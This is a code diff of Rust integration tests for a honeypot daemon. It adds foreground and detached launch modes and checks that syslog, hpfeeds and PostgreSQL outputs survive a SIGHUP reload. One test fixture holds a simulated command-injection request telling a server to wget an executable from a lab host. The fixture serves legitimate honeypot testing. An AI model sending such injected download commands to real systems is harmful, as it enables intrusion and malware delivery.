@@ -108,25 +108,29 @@ http {
 }
 "#;
 
+/// The download plugins of [`Lab::start`]: all of them.
+const ALL_DOWNLOADS: &str = "plugin-ftpDownload = \"\"\nplugin-tftpDownload = \"\"\nplugin-httpDownload = \"\"";
+
 /// The daemon with every download plugin, and the three servers, each serving `files`.
 struct Lab {
     pair: Pair,
     dir: TempDir,
-    daemon: Daemon,
+    daemon: Running,
     _servers: Vec<Server>,
 }
 
 impl Lab {
     fn start(files: &[(&str, &[u8])], extra: &str) -> Lab {
-        Lab::start_with(
-            files,
-            extra,
-            "plugin-ftpDownload = \"\"\nplugin-tftpDownload = \"\"\nplugin-httpDownload = \"\"",
-        )
+        Lab::start_with(files, extra, ALL_DOWNLOADS)
     }
 
     /// The lab with the decoders, SaveFile and the download plugins `downloads`.
     fn start_with(files: &[(&str, &[u8])], extra: &str, downloads: &str) -> Lab {
+        Lab::launch(Launch::Foreground, files, extra, downloads)
+    }
+
+    /// As [`Lab::start_with`], the daemon started the `launch` way.
+    fn launch(launch: Launch, files: &[(&str, &[u8])], extra: &str, downloads: &str) -> Lab {
         let pair = Pair::new();
         let dir = TempDir::new("downloads");
         for d in ["attacks", "downloads", "www", "tmp", "tftp", "ftp"] {
@@ -193,13 +197,8 @@ impl Lab {
             ),
         );
         let mut cmd = pair.srv.command(BIN);
-        cmd.args(["-D", "-C", conf.to_str().unwrap(), "-t", "5"]);
-        let mut daemon = Daemon::spawn(cmd);
-        if !wait_for_text(&dir.join("honeytrap.log"), "---- Trapping attacks", T) {
-            let _ = daemon.child.kill();
-            let (out, err) = daemon.output();
-            panic!("no ready line; log:\n{}\n{out}\n{err}", read(&dir.join("honeytrap.log")));
-        }
+        cmd.args(["-C", conf.to_str().unwrap(), "-t", "5"]);
+        let daemon = Running::start(launch, cmd, &dir.join("honeytrap.log"), &dir.join("honeytrap.pid"));
         Lab { pair, dir, daemon, _servers: servers }
     }
 
@@ -253,8 +252,7 @@ impl Lab {
 
 impl Drop for Lab {
     fn drop(&mut self) {
-        self.daemon.signal("TERM");
-        let _ = self.daemon.wait(T);
+        let _ = self.daemon.stop(T);
     }
 }
 
@@ -429,25 +427,23 @@ fn loopback_and_caps_are_refused() {
     assert!(!lab.downloads().iter().any(|(_, d)| *d == big));
 }
 
-/// Reads every datagram waiting on `sock` (the daemon's syslog target) within `wait`.
-fn syslog_messages(sock: &std::os::unix::net::UnixDatagram, wait: Duration) -> Vec<String> {
-    sock.set_read_timeout(Some(Duration::from_millis(200))).unwrap();
-    let end = std::time::Instant::now() + wait;
-    let mut out = Vec::new();
-    let mut buf = vec![0u8; 65536];
-    while std::time::Instant::now() < end {
-        if let Ok(n) = sock.recv(&mut buf) {
-            out.push(String::from_utf8_lossy(&buf[..n]).into_owned());
-        }
+#[test]
+fn outputs_describe_the_attack_after_its_downloads_in_the_foreground() {
+    if needs("outputs_describe_the_attack_after_its_downloads_in_the_foreground") {
+        outputs_describe_the_attack_after_its_downloads(Launch::Foreground);
     }
-    out
 }
 
 #[test]
-fn outputs_describe_the_attack_after_its_downloads() {
-    if !needs("outputs_describe_the_attack_after_its_downloads") {
-        return;
+fn outputs_describe_the_attack_after_its_downloads_detached() {
+    if needs("outputs_describe_the_attack_after_its_downloads_detached") {
+        outputs_describe_the_attack_after_its_downloads(Launch::Detached);
     }
+}
+
+/// The file outputs and syslog of the daemon started the `launch` way, before and after a
+/// SIGHUP with rotation.
+fn outputs_describe_the_attack_after_its_downloads(launch: Launch) {
     let a = sample(41, 4000);
     let scratch = TempDir::new("outputs");
     let sock_path = scratch.join("syslog.sock");
@@ -461,7 +457,7 @@ fn outputs_describe_the_attack_after_its_downloads() {
          plugin-syslog = {{ target = \"unix:{}\" what = \"both\" }}",
         sock_path.display()
     );
-    let lab = Lab::start(&[("a.exe", &a)], &extra);
+    let lab = Lab::launch(launch, &[("a.exe", &a)], &extra, ALL_DOWNLOADS);
     let attack = format!("GET /x?cmd=wget+http://{CLI4}/a.exe HTTP/1.0\r\n\r\n");
     lab.attack(attack.clone().into_bytes());
     lab.expect_download("a.exe", &a);
@@ -513,7 +509,7 @@ fn outputs_describe_the_attack_after_its_downloads() {
     assert!(ev.contains(&format!("\"outfile\":\"{}-a.exe\"", md5(&a))) && ev.contains("\"duplicate\":false"), "{ev}");
 
     // syslog (what = both): the events and the daemon log, RFC 5424.
-    let msgs = syslog_messages(&sock, Duration::from_secs(1));
+    let msgs = datagrams(&sock, Duration::from_secs(1));
     assert!(msgs.iter().any(|m| m.starts_with("<") && m.contains(" honeytrap.session.closed ")), "{msgs:?}");
     assert!(msgs.iter().any(|m| m.contains("successfully downloaded and attached")), "{msgs:?}");
 
@@ -529,7 +525,7 @@ fn outputs_describe_the_attack_after_its_downloads() {
     assert!(read(&events).contains("\"duplicate\":true"), "{}", read(&events));
     assert_eq!(read(&scratch.join("attackers.json")).lines().count(), 2);
     // The collector output lives on across the reload (its entry did not change).
-    let after = syslog_messages(&sock, Duration::from_secs(1));
+    let after = datagrams(&sock, Duration::from_secs(1));
     assert!(after.iter().any(|m| m.contains(" honeytrap.session.closed ")), "{after:?}");
     assert!(after.iter().any(|m| m.contains("honeytrap reconfigured")), "{after:?}");
 }
@@ -544,10 +540,22 @@ c.run(on_msg, lambda e: print('ERROR\t' + e, flush=True))
 "#;
 
 #[test]
-fn collectors_get_the_events_samples_and_records_of_the_running_daemon() {
-    if !needs("collectors_get_the_events_samples_and_records_of_the_running_daemon") {
-        return;
+fn collectors_get_the_events_samples_and_records_of_the_foreground_daemon() {
+    if needs("collectors_get_the_events_samples_and_records_of_the_foreground_daemon") {
+        collectors_get_the_events_samples_and_records(Launch::Foreground);
     }
+}
+
+#[test]
+fn collectors_get_the_events_samples_and_records_of_the_detached_daemon() {
+    if needs("collectors_get_the_events_samples_and_records_of_the_detached_daemon") {
+        collectors_get_the_events_samples_and_records(Launch::Detached);
+    }
+}
+
+/// hpfeeds and PostgreSQL fed by the daemon started the `launch` way, before and after a
+/// SIGHUP.
+fn collectors_get_the_events_samples_and_records(launch: Launch) {
     let (Some(venv), Some(pg)) = (hpfeeds_venv(), pg_bin()) else {
         eprintln!("SKIP: needs the hpfeeds broker venv and the PostgreSQL server (.ci/run installs both)");
         return;
@@ -600,7 +608,7 @@ fn collectors_get_the_events_samples_and_records_of_the_running_daemon() {
     );
     // Lab::start creates the namespaces; the broker must listen before the daemon starts
     // publishing, but the daemon reconnects with back-off anyway.
-    let lab = Lab::start(&[("a.exe", &a)], &lab_extra);
+    let lab = Lab::launch(launch, &[("a.exe", &a)], &lab_extra, ALL_DOWNLOADS);
     run_ok("ip", &["-n", &lab.pair.srv.0, "link", "set", "lo", "up"]);
     let broker = Server(
         lab.pair
@@ -665,6 +673,18 @@ fn collectors_get_the_events_samples_and_records_of_the_running_daemon() {
     assert_eq!(psql("honeytrap", "SELECT count(*) FROM attacks").as_deref(), Some("1"));
     assert_eq!(psql("honeytrap", "SELECT filename FROM downloads").as_deref(), Some("a.exe"));
     assert_eq!(psql("honeytrap", "SELECT name FROM sensors").as_deref(), Some("lab-2"));
+
+    // After SIGHUP (the collectors' entries unchanged, so they live on) a second attack
+    // reaches both.
+    lab.daemon.signal("HUP");
+    assert!(wait_for_text(&lab.path("honeytrap.log"), "honeytrap reconfigured", T), "{}", lab.log());
+    lab.attack(b"after the reload\r\n".to_vec());
+    // The input event carries the attack as data_hex; the subscriber prints the event in hex.
+    let second = hex(hex(b"after the reload").as_bytes());
+    let closed_events = || read(&sub_out).lines().filter(|l| l.contains(&closed)).count();
+    assert!(wait_until(T, || read(&sub_out).contains(&second) && closed_events() == 2), "{}", read(&sub_out));
+    let attacks = || psql("honeytrap", "SELECT count(*) FROM attacks");
+    assert!(wait_until(T, || attacks().as_deref() == Some("2")), "{:?}; log:\n{}", attacks(), lab.log());
     drop((subscriber, broker, pg_server));
 }
 
